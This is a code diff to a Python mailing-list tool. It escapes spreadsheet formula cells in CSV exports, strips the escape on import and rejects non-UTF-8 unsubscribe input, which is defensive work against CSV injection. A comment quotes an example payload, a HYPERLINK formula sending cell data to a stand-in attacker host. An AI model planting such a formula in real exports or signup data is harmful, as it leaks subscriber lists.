@@ -62,6 +62,7 @@ def read_subscribers(path: str | Path, errors: list[str] | None = None) -> list[
                     if errors is not None:
                         errors.append(message)
                     continue
+                row = {k: _from_cell(v) for k, v in row.items()}
                 name = (row.get("name") or "").strip() or box.name  # the name column wins over a display name
                 extra = {k: (v or "").strip() for k, v in row.items() if k not in ("email", "name") and k}
                 subscribers.setdefault(box.address.lower(), Subscriber(box.address, name, extra))
@@ -88,9 +89,26 @@ def _open_list(path: Path) -> TextIO:
     return open(fd, encoding="utf-8-sig", newline="")
 
 
+# A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (CWE-1236): a name
+# typed into the signup form as =HYPERLINK("https://evil.example/?"&A2) would send the list away.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _to_cell(value: object) -> object:
+    """A value as an export writes it: text that a spreadsheet would run gets a leading apostrophe
+    (OWASP's advice; the apostrophe is not shown), which _from_cell takes off again."""
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
+def _from_cell(value: str | None) -> str | None:
+    if value and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
+        return value[1:]
+    return value
+
+
 def _mailbox(row: Mapping[str, str | None]) -> tuple[Mailbox | None, str]:
     """The row's one address (``name@example.org`` or ``Name <name@example.org>``), or why it has none."""
-    email = (row.get("email") or "").strip()
+    email = (_from_cell(row.get("email")) or "").strip()
     try:
         boxes = address_list(email, "email")
     except ConfigError:
@@ -141,16 +159,8 @@ def export_csv(records: Iterable[SubscriberRecord], handle: TextIO) -> int:
     writer.writerow(["email", "name", *STORE_COLUMNS, *extra])
     for r in records:
         fields = r.subscriber.fields
-        writer.writerow(
-            [
-                r.subscriber.email,
-                r.subscriber.name,
-                r.status,
-                r.changed,
-                r.soft_bounces,
-                *(fields.get(k, "") for k in extra),
-            ]
-        )
+        row = [r.subscriber.email, r.subscriber.name, r.status, r.changed, r.soft_bounces]
+        writer.writerow([_to_cell(value) for value in (*row, *(fields.get(k, "") for k in extra))])
     return len(records)
 
 
@@ -245,6 +255,10 @@ def unsubscribe(db: sqlite3.Connection, address_or_token: str) -> str:
     value = address_or_token.strip()
     if not value:  # the journal holds '' as the token of deliveries sent without one
         raise ConfigError("unsubscribe: the address or token is empty; give an e-mail address or the token of a link")
+    try:
+        value.encode("utf-8")
+    except UnicodeEncodeError:  # bytes a shell passed on that are not UTF-8 (Python holds them as surrogates)
+        raise ConfigError(f"unsubscribe: {value!r} is not UTF-8 text; give an e-mail address or a token") from None
     if "@" in value:
         address = address_list(value, "unsubscribe")
         if len(address) != 1:
